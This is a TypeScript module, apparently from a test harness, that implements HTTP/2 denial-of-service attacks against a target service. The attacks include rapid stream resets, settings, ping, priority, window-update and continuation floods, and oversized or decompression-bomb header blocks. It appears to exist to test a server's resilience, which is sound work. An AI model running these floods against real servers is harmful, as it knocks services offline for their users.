/** Attacks with frames of HTTP/2 and with headers. */
import { setTimeout as sleep } from 'node:timers/promises';
import {
  callHeaders,
  frameOf,
  frameTypes,
  headerBlock,
  initialWindow,
  repeatedHeader,
  settingsFrame,
  uint32,
} from '../../fixtures/http2-frames.ts';
import type { Attack } from './attack.ts';
import { hold } from './connection-attacks.ts';
import { Http2Wire } from './http2-wire.ts';
import { paths } from './messages.ts';
import type { PortName, Target } from './target.ts';

const loops = 8;
const ports: readonly PortName[] = ['grpc', 'http'];
/** The number of frames that are written at once. */
const burst = 2_000;
/** The error code CANCEL of HTTP/2. */
const cancel = 8;

/** Writes frames without a pause on connections to both listeners, and connects again whenever one is closed. */
async function flood(target: Target, framesOf: (wire: Http2Wire) => Buffer): Promise<void> {
  await target.atOnce(loops, async (index) => {
    const wire = await Http2Wire.open(target, { port: ports[index % 2] as PortName });
    if (wire === undefined) return void (await sleep(50));
    while (wire.isOpen && !target.isOver) {
      wire.write(framesOf(wire));
      target.tally.sent(burst);
      await wire.drained();
      await sleep(0);
    }
    wire.destroy();
  });
}

/** A flood is closed by design, so that it is counted as it is sent. */
const asAnybody = {
  asStranger: { measure: 'sent', atLeast: 10 * burst },
  asIdentity: { verb: 'read', measure: 'sent', atLeast: 10 * burst },
} as const;

function repeated(frame: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: burst }, () => frame));
}

function floodOf(name: string, frame: Buffer): Attack {
  const frames = repeated(frame);
  return {
    name,
    counts: 'frames',
    ...asAnybody,
    run: (target) => flood(target, () => frames),
  };
}

/** A flood of frames that belong to a stream: the stream is opened by the first frames of a connection. */
function streamFlood(name: string, frameOn: (stream: number) => Buffer, isWhole: boolean): Attack {
  const streams = new WeakMap<Http2Wire, Buffer>();
  const framesOf = (wire: Http2Wire): Buffer => {
    const known = streams.get(wire);
    if (known !== undefined) return known;
    const frames = repeated(frameOn(wire.call(paths.health, [], isWhole)));
    streams.set(wire, frames);
    return frames;
  };
  return { name, counts: 'frames', ...asAnybody, run: (target) => flood(target, framesOf) };
}

/** Blocks of headers near the limit of a header list, and one that is short on the wire and long when it is read. */
const largeBlocks: readonly Buffer[] = [
  headerBlock([
    ...callHeaders(paths.health),
    ...Array.from({ length: 100 }, (_, i): [string, string] => [`x-${i}`, 'y'.repeat(100)]),
  ]),
  Buffer.concat([headerBlock(callHeaders(paths.health)), repeatedHeader('x-long', 'y'.repeat(3_500), 3)]),
  Buffer.concat([headerBlock(callHeaders(paths.health)), repeatedHeader('x-bomb', 'y'.repeat(4_000), 8_000)]),
];

export const frameAttacks: readonly Attack[] = [
  {
    name: 'large-headers',
    counts: 'calls',
    asStranger: { measure: 'sent', atLeast: 200 },
    asIdentity: { verb: 'read', measure: 'sent', atLeast: 200 },
    async run(target) {
      const grpc = target.atOnce(loops, async (index) => {
        const wire = await Http2Wire.open(target, { port: ports[index % 2] as PortName });
        if (wire === undefined) return void (await sleep(50));
        let open = 0;
        wire.onEnded = () => {
          open--;
        };
        for (let i = 0; wire.isOpen && !target.isOver; i++) {
          if (open < 1_000) {
            open++;
            target.tally.sent();
            wire.callWith(largeBlocks[i % largeBlocks.length] as Buffer);
          }
          if (i % 20 === 0 || open >= 1_000) await sleep(5);
          await wire.drained();
        }
      });
      const http = target.atOnce(200, async () => {
        const socket = await target.tls('http');
        if (socket === undefined) return void (await sleep(50));
        socket.resume();
        hold(target, { onClose: (run) => void socket.once('close', run) });
        socket.write(`POST /healthz HTTP/1.1\r\nhost: x\r\nx-long: ${'y'.repeat(15_000)}`);
        while (socket.writable && !target.isOver) await sleep(50);
      });
      await Promise.all([grpc, http]);
    },
  },
  {
    name: 'rapid-resets',
    counts: 'calls',
    asStranger: { measure: 'sent', atLeast: 1000 },
    asIdentity: { verb: 'read', measure: 'sent', atLeast: 1000 },
    async run(target) {
      await target.atOnce(loops, async (index) => {
        const wire = await Http2Wire.open(target, { port: ports[index % 2] as PortName });
        if (wire === undefined) return void (await sleep(50));
        while (wire.isOpen && !target.isOver) {
          for (let i = 0; i < 100; i++) {
            const stream = wire.call(paths.health);
            wire.write(frameOf(frameTypes.reset, 0, stream, uint32(cancel)));
          }
          target.tally.sent(100);
          await wire.drained();
          await sleep(0);
        }
      });
    },
  },
  floodOf('settings-flood', settingsFrame([initialWindow, 65_535])),
  floodOf('ping-flood', frameOf(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  floodOf('priority-flood', frameOf(frameTypes.priority, 0, 1, Buffer.of(0, 0, 0, 0, 16))),
  streamFlood(
    'window-update-flood',
    (stream) => frameOf(frameTypes.windowUpdate, 0, stream, uint32(1)),
    true,
  ),
  streamFlood('empty-data-flood', (stream) => frameOf(frameTypes.data, 0, stream), true),
  streamFlood(
    'continuation-flood',
    (stream) => frameOf(frameTypes.continuation, 0, stream, headerBlock([['x', 'y']])),
    false,
  ),
];
